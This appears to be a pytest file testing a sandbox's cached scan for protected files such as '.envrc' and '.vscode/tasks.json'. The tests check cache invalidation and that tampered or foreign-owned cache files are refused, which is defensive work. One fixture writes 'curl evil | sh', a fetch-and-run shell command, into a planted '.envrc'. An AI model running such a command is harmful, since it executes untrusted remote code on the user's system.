"""The protected-file search's listings kept from one process to the next: reused
only while each directory is unchanged, never from a file someone else could
have written, never for a directory changed in the listing's own clock tick."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from dsh.sandbox import protected_scan, tree_cache
from dsh.sandbox.protected_scan import TreeIndex

NAMES = (".envrc", ".vscode/tasks.json")


@pytest.fixture(autouse=True)
def own_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    cache = tmp_path / "cache"
    monkeypatch.setenv("XDG_CACHE_HOME", str(cache))
    return cache


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    for a in range(3):
        for b in range(3):
            (root / f"a{a}" / f"b{b}").mkdir(parents=True)
            (root / f"a{a}" / f"b{b}" / "file").write_text("x")
    return root


@pytest.fixture
def settled_now(monkeypatch: pytest.MonkeyPatch) -> None:
    """Every directory counts as settled: the trees here were made a moment ago."""
    monkeypatch.setattr(protected_scan, "RACY_NS", -(10**12))


def listed(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The directories the search lists (not merely ``lstat``s) from now on."""
    seen: list[str] = []
    real = os.scandir

    def spy(path: str) -> object:
        seen.append(str(path))
        return real(path)

    monkeypatch.setattr(protected_scan.os, "scandir", spy)
    return seen


def kept(root: Path) -> TreeIndex:
    index = TreeIndex(NAMES, keep=True)
    index.refresh([root])
    index.save()
    return index


@pytest.mark.usefixtures("settled_now")
def test_a_later_process_lists_only_what_changed_and_finds_a_repository_made_since(
        tree: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    kept(tree)
    (tree / "a1" / "b2" / "r" / ".git").mkdir(parents=True)  # b2 changes; r is new
    (tree / "a2" / "b0" / ".envrc").write_text("curl evil | sh")
    seen = listed(monkeypatch)
    found = TreeIndex(NAMES, keep=True).refresh([tree])
    assert sorted(seen) == sorted(str(tree / p) for p in ("a1/b2", "a1/b2/r", "a2/b0"))
    assert found.repos == (tree / "a1" / "b2" / "r" / ".git",)
    assert found.named == (tree / "a2" / "b0" / ".envrc",)
    assert found.incomplete == ()


@pytest.mark.usefixtures("settled_now")
def test_a_renamed_or_swapped_directory_is_listed_again(tree: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    kept(tree)
    # A directory with a repository moved where a listed one was: same path, another inode.
    (tree / "elsewhere" / ".git").mkdir(parents=True)
    os.rename(tree / "a0" / "b0", tree / "old")
    os.rename(tree / "elsewhere", tree / "a0" / "b0")
    seen = listed(monkeypatch)
    found = TreeIndex(NAMES, keep=True).refresh([tree])
    assert str(tree / "a0" / "b0") in seen
    assert found.repos == (tree / "a0" / "b0" / ".git",)


def test_a_directory_changed_in_the_last_moments_is_not_kept(tree: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Made a moment ago: a change in the same clock tick could leave its ctime as it is."""
    kept(tree)
    seen = listed(monkeypatch)
    TreeIndex(NAMES, keep=True).refresh([tree])
    assert str(tree / "a1" / "b1") in seen and len(seen) == 13  # everything, again


@pytest.mark.usefixtures("settled_now")
def test_a_cache_file_someone_else_could_have_written_is_not_read(
        tree: Path, own_cache: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    kept(tree)
    (cache_file,) = (own_cache / "dsh-sandbox" / "tree-index").iterdir()
    assert cache_file.stat().st_mode & 0o777 == 0o600

    def lists_all() -> bool:
        with monkeypatch.context() as patch:
            seen = listed(patch)
            TreeIndex(NAMES, keep=True).refresh([tree])
        return len(seen) == 13

    assert not lists_all()  # the control: the kept listings are used
    os.chmod(cache_file, 0o620)
    assert lists_all()
    os.chmod(cache_file, 0o600)
    data = bytearray(cache_file.read_bytes())
    data[-5] ^= 0xFF  # a flipped byte: the checksum no longer holds
    cache_file.write_bytes(bytes(data))
    assert lists_all()
    if os.geteuid() == 0:
        kept(tree)
        os.chown(cache_file, 65534, 65534)
        assert lists_all()


@pytest.mark.usefixtures("settled_now")
def test_listings_of_a_filesystem_whose_ctime_the_kernel_does_not_keep_are_not_kept(
        tree: Path, own_cache: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tree_cache, "local_devices", lambda mountinfo="": frozenset())
    kept(tree)
    seen = listed(monkeypatch)
    TreeIndex(NAMES, keep=True).refresh([tree])
    assert len(seen) == 13


def test_local_devices_come_from_the_mount_table(tmp_path: Path) -> None:
    table = tmp_path / "mountinfo"
    table.write_text(
        "22 1 254:0 / / rw,relatime shared:1 - ext4 /dev/vda rw\n"
        "23 22 0:21 / /proc rw - proc proc rw\n"
        "24 22 0:44 / /mnt/share rw - nfs4 server:/share rw\n"
        "25 22 0:45 / /mnt/fuse rw - fuse.sshfs host: rw\n"
        "26 22 0:46 / /dev/shm rw - tmpfs tmpfs rw\n"
        "27 22 0:47 / /opt/two\\040words rw shared:2 master:1 - xfs /dev/vdb rw\n")
    assert tree_cache.local_devices(str(table)) == {os.makedev(254, 0), os.makedev(0, 46), os.makedev(0, 47)}
    assert os.stat("/").st_dev in tree_cache.local_devices() or not tree_cache.local_devices()


@pytest.mark.usefixtures("settled_now")
def test_a_run_that_touches_a_few_directories_leaves_the_file_as_it_is(tmp_path: Path, own_cache: Path) -> None:
    root = tmp_path / "wide"
    for n in range(100):
        (root / f"d{n}").mkdir(parents=True)
    kept(root)
    (cache_file,) = (own_cache / "dsh-sandbox" / "tree-index").iterdir()
    before = cache_file.read_bytes()
    (root / "d0" / "new").write_text("x")  # one directory of 101 to list again: cheaper than a rewrite
    kept(root)
    assert cache_file.read_bytes() == before
    for n in range(10):
        (root / f"d{n}" / "new2").write_text("x")
    kept(root)
    assert cache_file.read_bytes() != before
